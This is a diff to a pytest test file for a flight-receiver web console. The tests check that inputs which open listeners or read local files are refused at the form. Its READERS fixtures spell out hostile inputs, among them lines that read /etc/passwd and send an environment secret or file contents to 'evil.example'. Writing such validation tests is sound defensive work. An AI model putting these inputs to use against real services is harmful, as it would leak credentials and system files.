@@ -5,11 +5,16 @@ import re
 import pytest
 import sqlalchemy as sa
 
-from skywatch.console.forms import trials
+from skywatch.console.forms import input_trial as trials
+from skywatch.core import stored_settings
+from skywatch.core.clock import utcnow
+from skywatch.core.database.encryption import Sealer
+from skywatch.core.database.engine import writing
 from skywatch.core.database.models import AuditEntry, StoredSetting
 from skywatch.receivers.settings import ReceiverSettings
 from tests.feeds import FeedServer
 from tests.functional.console.visitor import ORIGIN, populate
+from tests.ports import free_port
 
 SBS = b"MSG,3,1,1,4B1620,1,2026/01/01,12:00:00.000,2026/01/01,12:00:00.000,,35000,,,47.1,8.1,,,0,0,0,0\r\n"
 
@@ -69,8 +74,8 @@ def test_a_receiver_is_added_changed_and_removed(root):
 
 
 def test_an_input_of_acars_is_added_too(root):
-    add(root, family="acars.", name="vhf", text="udp 127.0.0.1:5550")
-    assert root.runtime.current.acars_inputs == {"vhf": "udp 127.0.0.1:5550"}
+    add(root, family="acars.", name="vhf", text="tcp router:15550")
+    assert root.runtime.current.acars_inputs == {"vhf": "tcp router:15550"}
     assert "acars.vhf" in root.get("/receivers")
 
 
@@ -95,11 +100,11 @@ WRONG = (
     ({"name": "roof", "text": "beast a:1", "host": "pi"}, "text", "must be empty where there is a host"),
     ({"name": "roof", "text": "", "host": "http://pi/"}, "host", "a name or an address alone"),
     ({"name": "roof", "text": "", "host": "pi", "port": "0"}, "port", "whole number from 1 to 65535"),
-    ({"name": "roof", "text": "replay /etc/passwd"}, "text", "only the ini file may name them"),
     ({"name": "Roof!", "text": "beast localhost:30005"}, "name", "lower-case letters"),
 )
 
 
+@pytest.mark.deep("costs over a processor second")
 def test_what_is_wrong_is_shown_at_its_field_and_kept(root):
     for do in ("save", "try"):
         for fields, field, reason in WRONG:
@@ -111,6 +116,7 @@ def test_what_is_wrong_is_shown_at_its_field_and_kept(root):
         assert session.scalar(sa.select(sa.func.count()).select_from(StoredSetting)) == 0
 
 
+@pytest.mark.deep("opens dozens of pages")
 def test_a_trial_says_what_came_and_saves_nothing(root):
     server = FeedServer([(number / 10, SBS) for number in range(600)]).play()
     try:
@@ -238,6 +244,7 @@ def test_the_last_step_ends_at_the_map(root):
     assert "receiver.roof is saved" in root.get("/receivers")
 
 
+@pytest.mark.deep("opens dozens of pages")
 def test_without_the_web_application_the_last_step_ends_at_the_receivers(make_visitor):
     visitor = make_visitor(auth_mode="hybrid", web_enabled=False)
     populate(visitor.runtime, "superadmin")
@@ -261,3 +268,88 @@ def test_a_change_made_meanwhile_is_told(root):
     # And what another one has added under this name meanwhile is not overwritten.
     page = add(root, name="attic", text="sbs localhost:1", status=400)
     assert "is already in use" in page
+
+
+LISTENERS = (
+    ("receiver.", "listen 127.0.0.1:{port} proxy=0.0.0.0/0 limit=10000 feeder=me allow=0.0.0.0/0 format=avr", "listen"),
+    ("receiver.", "listen 0.0.0.0:{port}", "listen"),
+    ("acars.", "listen 127.0.0.1:{port}", "listen"),
+    ("acars.", "udp 127.0.0.1:{port} allow=0.0.0.0/0", "udp"),
+)
+# What reads files or the environment of the service, and would send it to a host of one's choice.
+READERS = (
+    ("receiver.", "replay /etc/passwd", "replay"),
+    ("receiver.", "readsb /run/readsb/aircraft.json", "a file"),
+    ("receiver.", "readsb aircraft.json", "a file"),
+    ("receiver.", "readsb file:///run/readsb/aircraft.json", "a file"),
+    ("receiver.", "adsbx-v2 https://evil.example/ header=x:env:SECRET", "this value of header"),
+    ("receiver.", "adsbx-v2 https://evil.example/ header=x:file:/etc/passwd", "this value of header"),
+    ("acars.", "file /etc/passwd", "file"),
+)
+
+
+@pytest.mark.parametrize("do", ["save", "try"])
+@pytest.mark.parametrize(("family", "text", "what"), [*LISTENERS, *READERS])
+def test_what_listens_or_reads_this_machine_is_a_line_for_the_ini_file(root, do, family, text, what):
+    text = text.format(port=free_port())
+    page = add(root, do=do, status=400, family=family, name="x", text=text)
+    fault = page.html.find(id="about-text").text
+    assert what in fault
+    assert f"{family}x = {text}" in fault
+    assert root.runtime.current.acars_inputs == {}
+    assert list(receivers_of(root)) == ["ini"]
+    assert audited(root, "input.tried") == []
+
+
+def test_what_connects_to_somebody_is_set_here_with_its_options(root):
+    for number, text in enumerate((
+        "adsbx-v2 https://api.example/v2/point/47/8/250 every=10 header=api-auth:key",
+        "readsb https://pi.example/tar1090/ every=2", "sbs pi:30003 mlat", "beast [fd00::7]:30005 mlat", "avr pi:30002",
+        "readsb-lines pi:30047", "simulate aircraft=5 seed=1 around=47.1,8.2 radius_nm=50 ground=0.1 separation=no",
+    )):  # fmt: skip
+        add(root, name=f"r{number}", text=text)
+        assert receivers_of(root)[f"r{number}"] == text
+    page = add(root, name="typo", text="beast pi:30005 mlatt", status=400)
+    assert "mlatt is unknown" in page.html.find(id="about-text").text
+
+
+def store_as_before(root, name, text):
+    """Store an input as an earlier release did."""
+    sealed = Sealer(root.runtime.settings.secret, stored_settings.PURPOSE).seal(text)
+    row = StoredSetting(name=name, value=sealed, sealed=True, updated_at=utcnow(), updated_by="admin")
+    with writing(root.runtime.sessions) as session:
+        session.add(row)
+    root.runtime.stored.expire()
+
+
+def test_a_stored_listener_goes_on_is_shown_as_a_line_and_can_only_be_removed(root, caplog):
+    text = "listen 127.0.0.1:30004 proxy=10.0.0.0/8"
+    store_as_before(root, "receiver.feeders", text)
+    store_as_before(root, "acars.vhf", "udp 127.0.0.1:5550")
+    assert receivers_of(root)["feeders"] == text
+    assert "receiver.feeders is a kind for the ini file" in caplog.text
+    listed = root.get("/receivers")
+    assert "Move these lines to the ini file" in listed
+    assert f"receiver.feeders = {text}" in listed
+    assert "acars.vhf = udp 127.0.0.1:5550" in listed
+    page = listed.click("receiver.feeders", index=0)
+    assert f"receiver.feeders = {text}" in page
+    assert "Move this line to the ini file" in page
+    assert [button["value"] for button in page.html.find_all("button", {"name": "do"})] == ["remove"]
+    token = page.forms[1]["csrf_token"].value
+    for do, changed in (("save", text), ("save", "beast pi:30005"), ("save", ""), ("try", text), ("try", "")):
+        fields = {"csrf_token": token, "version": page.forms[1]["version"].value, "do": do, "text": changed}
+        refused = root.post("/receivers/input?name=receiver.feeders", fields, status=409)
+        assert "move its line there" in refused
+    assert receivers_of(root)["feeders"] == text
+    assert "receiver.feeders = " in root.get("/settings?search=receiver.feeders")
+    press(page, "remove")
+    assert "feeders" not in receivers_of(root)
+
+
+def test_credentials_of_a_line_for_the_ini_file_are_not_shown(root):
+    store_as_before(root, "receiver.net", "adsbx-v2 https://me:hunter2@pi/x?key=hunter3 header=a:env:KEY")
+    for path in ("/receivers", "/receivers/input?name=receiver.net", "/settings"):
+        page = root.get(path)
+        assert "receiver.net" in page
+        assert "hunter" not in page
